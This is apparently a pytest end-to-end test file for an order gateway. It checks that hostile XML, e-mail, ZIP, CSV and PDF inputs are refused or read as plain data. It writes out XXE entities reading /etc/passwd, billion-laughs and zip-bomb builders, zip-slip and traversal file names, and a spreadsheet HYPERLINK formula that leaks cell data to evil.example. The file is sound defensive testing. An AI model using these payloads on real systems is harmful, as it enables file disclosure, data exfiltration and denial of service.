"""Hostile XML, e-mail, spreadsheet and PDF input (reliability X1-X4, M1-M4, M7, C1, C2),
driven through `gateway translate` as a user runs it: each is refused with its reason, or read
as plain data, and never leaks a file, hangs or ends in a traceback. (M5 and M6 are checked
in tests/unit/test_email_pipeline.py and tests/unit/test_email_reply.py, M1's IMAP size check
in tests/unit/test_imap.py, C2's limits in tests/unit/test_extract_isolate.py.)"""

from __future__ import annotations

import io
import json
import zipfile
from email.message import EmailMessage
from pathlib import Path

from tests.e2e.helpers import ROOT, run_cli
from tests.support import make_xlsx

FIX = ROOT / "tests" / "fixtures"
TABLE_TEMPLATE = (ROOT / "mappings" / "examples" / "email_table.yaml").read_text()
TEXT_TEMPLATE = (ROOT / "mappings" / "examples" / "email_text.yaml").read_text()


def translate(tmp_path: Path, name: str, data: bytes, *args: str) -> tuple[int, list[dict], str]:
    path = tmp_path / name
    path.write_bytes(data)
    done = run_cli("translate", str(path), *args, timeout=120)
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr, done.stderr
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def partner_config(tmp_path: Path, template: str) -> Path:
    (tmp_path / "acme").mkdir(exist_ok=True)
    (tmp_path / "acme" / "email.yaml").write_text(template)
    cfg = tmp_path / "gateway.yaml"
    cfg.write_text(f"mappings: {tmp_path}\npartners:\n  - {{name: acme, email_senders: ['@acme-retail.example']}}\n")
    return cfg


def mail(*attachments: tuple[str, bytes, str, str], body: str = "Please see the attached order.") -> bytes:
    m = EmailMessage()
    m["From"] = "Jane Buyer <jane.buyer@acme-retail.example>"
    m["To"] = "orders@widgetco.example"
    m["Subject"] = "Purchase order"
    m["Message-ID"] = "<po-hostile@acme-retail.example>"
    m.set_content(body)
    for name, data, maintype, subtype in attachments:
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return m.as_bytes()


def zipped(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


CXML_HEAD = '<?xml version="1.0"?>\n'
CXML_ORDER = '<cXML payloadID="1" timestamp="2024-01-01T00:00:00Z"><Request><OrderRequest><OrderRequestHeader orderID="{po}"/></OrderRequest></Request></cXML>\n'


def test_xxe_is_refused_and_leaks_nothing(tmp_path):
    """reliability X1: an external entity (file:///etc/passwd) in cXML or UBL: XML_FORBIDDEN, and
    not a byte of the file in the output."""
    dtd = '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    rc, orders, err = translate(tmp_path, "xxe.xml", (CXML_HEAD + dtd + CXML_ORDER.format(po="&x;")).encode())
    assert rc == 1 and orders == [] and "(XML_FORBIDDEN)" in err and "root:" not in err
    ubl = (FIX / "xml" / "ubl_order_full.xml").read_text()
    head, _, rest = ubl.partition("?>")
    ubl = head + '?>\n<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rest.replace("<cbc:Note>", "<cbc:Note>&x;", 1)
    rc, orders, err = translate(tmp_path, "xxe_ubl.xml", ubl.encode())
    assert rc == 1 and orders == [] and "(XML_FORBIDDEN)" in err and "root:" not in err


def test_billion_laughs_is_refused(tmp_path):
    """reliability X2: nested entities (10^9 "lol"s if expanded): refused at once, XML_FORBIDDEN."""
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    data = CXML_HEAD + f"<!DOCTYPE cXML [{entities}]>\n" + CXML_ORDER.format(po="&l9;")
    rc, orders, err = translate(tmp_path, "lol.xml", data.encode())
    assert rc == 1 and orders == [] and "(XML_FORBIDDEN)" in err


def test_huge_text_node_and_deep_nesting_are_refused(tmp_path):
    """reliability X3: a text node over 10 MB and nesting deeper than 256: XML_LIMIT."""
    deep = CXML_HEAD + "<cXML>" + "<a>" * 300 + "</a>" * 300 + "</cXML>\n"
    rc, orders, err = translate(tmp_path, "deep.xml", deep.encode())
    assert rc == 1 and orders == [] and "(XML_LIMIT)" in err and "depth" in err
    huge = CXML_ORDER.format(po="1").replace('"/>', '"><Comments>' + "x" * (11 * 1024 * 1024) + "</Comments></OrderRequestHeader>")
    rc, orders, err = translate(tmp_path, "huge.xml", (CXML_HEAD + huge).encode())
    assert rc == 1 and orders == [] and "(XML_LIMIT)" in err


def test_xlsx_with_xxe_or_a_bomb_is_refused(tmp_path):
    """reliability X4: an XLSX attachment with an external entity, nested entities or a
    compression bomb is refused with a reason; the entity is never resolved."""
    cfg = partner_config(tmp_path, TABLE_TEMPLATE)
    kind = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    for name, data in (("xxe.xlsx", make_xlsx.xxe_workbook()), ("lol.xlsx", make_xlsx.billion_laughs_workbook()), ("bomb.xlsx", make_xlsx.bomb_workbook())):
        eml = mail((name, data, *kind))
        rc, orders, err = translate(tmp_path, f"{name}.eml", eml, "--partner", "acme", "--config", str(cfg))
        assert rc == 1 and orders == [], (name, err)
        assert "rejected (" in err and "root:" not in err, (name, err)


def test_an_oversized_mail_is_refused_unread(tmp_path):
    """reliability M1: a message over the 25 MB limit: MAIL_TOO_LARGE, nothing of it parsed."""
    big = mail(("big.bin", b"\x00" * (26 * 1024 * 1024), "application", "octet-stream"))
    rc, orders, err = translate(tmp_path, "big.eml", big)
    assert rc == 1 and orders == [] and "(MAIL_TOO_LARGE)" in err


def test_zip_bombs_are_refused(tmp_path):
    """reliability M2: a ZIP attachment with a ratio over 100, more than 200 entries or a ZIP
    inside it: ZIP_LIMIT; nothing is written to disk by entry name."""
    edi = (FIX / "x12" / "clean_4010_850.edi").read_bytes()
    cases = {
        "ratio.zip": zipped([("po.edi", edi + b" " * (5 * 1024 * 1024))]),
        "many.zip": zipped([(f"e{i}.txt", b"x") for i in range(201)]),
        "nested.zip": zipped([("inner.zip", zipped([("po.edi", edi)]))]),
    }
    for name, data in cases.items():
        rc, orders, err = translate(tmp_path, f"{name}.eml", mail((name, data, "application", "zip")))
        assert rc == 1 and orders == [], (name, err)
        assert "(ZIP_LIMIT)" in err, (name, err)
    slip = zipped([("../../../../tmp/zip-slip-po.edi", edi)])
    rc, orders, err = translate(tmp_path, "slip.eml", mail(("slip.zip", slip, "application", "zip")))
    assert rc == 0 and len(orders) == 1, err
    assert not Path("/tmp/zip-slip-po.edi").exists()


def test_deep_nesting_and_too_many_parts_are_refused(tmp_path):
    """reliability M3: message/rfc822 nested deeper than 3, or more than 100 MIME parts: MIME_LIMIT."""
    inner = EmailMessage()
    inner["Subject"] = "innermost"
    inner.set_content("hello")
    for level in range(5):
        outer = EmailMessage()
        outer["From"] = "jane.buyer@acme-retail.example"
        outer["Subject"] = f"Fwd {level}"
        outer.set_content("forwarded")
        outer.add_attachment(inner)
        inner = outer
    rc, orders, err = translate(tmp_path, "deep.eml", inner.as_bytes())
    assert rc == 1 and orders == [] and "(MIME_LIMIT)" in err
    many = mail(*[(f"n{i}.txt", b"note", "text", "plain") for i in range(120)])
    rc, orders, err = translate(tmp_path, "many.eml", many)
    assert rc == 1 and orders == [] and "(MIME_LIMIT)" in err


def test_malformed_mime_is_refused_with_its_defects(tmp_path):
    """reliability M4: a missing boundary or bad base64 and nothing usable: MIME_DEFECT naming
    the defects; a broken RFC 2231 file name is read, never a crash."""
    head = b"From: Jane <jane.buyer@acme-retail.example>\r\nTo: o@widgetco.example\r\nSubject: PO\r\nMIME-Version: 1.0\r\n"
    no_boundary = head + b'Content-Type: multipart/mixed; boundary="XYZ"\r\n\r\n--ABC\r\nContent-Type: text/plain\r\n\r\nhello\r\n'
    rc, _, err = translate(tmp_path, "nob.eml", no_boundary)
    assert rc == 1 and "(MIME_DEFECT)" in err and "Multipart" in err, err
    bad64 = head + (
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: application/octet-stream; name="po.edi"\r\n'
        b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"po.edi\"\r\n\r\n!!!not*base64===\r\n--B--\r\n"
    )
    rc, _, err = translate(tmp_path, "b64.eml", bad64)
    assert rc == 1 and "(MIME_DEFECT)" in err and "Base64" in err, err
    rfc2231 = head + (
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: application/octet-stream\r\n'
        b"Content-Disposition: attachment; filename*=utf-8''%E2%80%\r\n\r\n"
    ) + (FIX / "x12" / "clean_4010_850.edi").read_bytes() + b"\r\n--B--\r\n"
    rc, orders, err = translate(tmp_path, "2231.eml", rfc2231)
    assert rc == 0 and len(orders) == 1, err


def test_attachment_names_are_metadata_only(tmp_path):
    """reliability M7: attachment names with traversal, absolute paths, NUL and control
    characters are shown sanitized and never used as a path; the order is read."""
    edi = (FIX / "x12" / "clean_4010_850.edi").read_bytes()
    names = ("../../etc/po.edi", "/etc/passwd", "..\\..\\x.edi", "C:\\x.edi", "po\x00\x07.edi", "x" * 1000 + ".edi")
    eml = mail(*[(name, edi, "application", "edi-x12") for name in names])
    rc, orders, err = translate(tmp_path, "names.eml", eml)
    assert rc == 0 and len(orders) == len(names), err
    bad = mail(("../../etc/po\x07.edi", edi[: len(edi) // 2], "application", "edi-x12"))
    rc, _, err = translate(tmp_path, "names.eml", bad)
    assert rc == 1 and "\x07" not in err and "\x00" not in err


def test_formula_cells_are_data(tmp_path):
    """reliability C1: CSV cells starting with = + - @ are read as text, never evaluated: a
    `=HYPERLINK(...)` canary arrives in the order exactly as sent."""
    cfg = partner_config(tmp_path, TABLE_TEMPLATE)
    canary = '=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")'
    csv = (
        "PO Number,Order Date,Ship To,Line,Item,Description,Qty,UOM,Unit Price\r\n"
        f'4500012345,02/03/2026,@SUM(1+1),1,WID-100,"{canary}",10,EA,2.50\r\n'
    ).encode()
    rc, orders, err = translate(tmp_path, "c1.eml", mail(("po.csv", csv, "text", "csv")), "--partner", "acme", "--config", str(cfg))
    assert orders, err
    line = orders[0]["lines"][0]
    assert line["description"] == canary.replace('""', '"')
    assert orders[0]["ship_to"]["name"] == "@SUM(1+1)"


def test_a_malformed_or_hostile_pdf_is_refused_cleanly(tmp_path):
    """reliability C2: a broken PDF attachment and one with more pages than the limit are
    refused with a reason by the isolated reader; the gateway goes on. (A PDF that exhausts the
    child's memory or time: tests/unit/test_extract_isolate.py, with lowered limits.)"""
    cfg = partner_config(tmp_path, TEXT_TEMPLATE)
    broken = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    kids = " ".join(f"{i} 0 R" for i in range(3, 3 + 60))
    pages = b"".join(f"{i} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n".encode() for i in range(3, 3 + 60))
    many = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + f"2 0 obj<</Type/Pages/Kids[{kids}]/Count 60>>endobj\n".encode()
        + pages
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    for name, data, reason in (("broken.pdf", broken, "rejected (EXTRACT_"), ("many.pdf", many, "(EXTRACT_PDF_LIMIT)")):
        rc, orders, err = translate(tmp_path, f"{name}.eml", mail((name, data, "application", "pdf")), "--partner", "acme", "--config", str(cfg))
        assert rc == 1 and orders == [], (name, err)
        assert reason in err, (name, err)
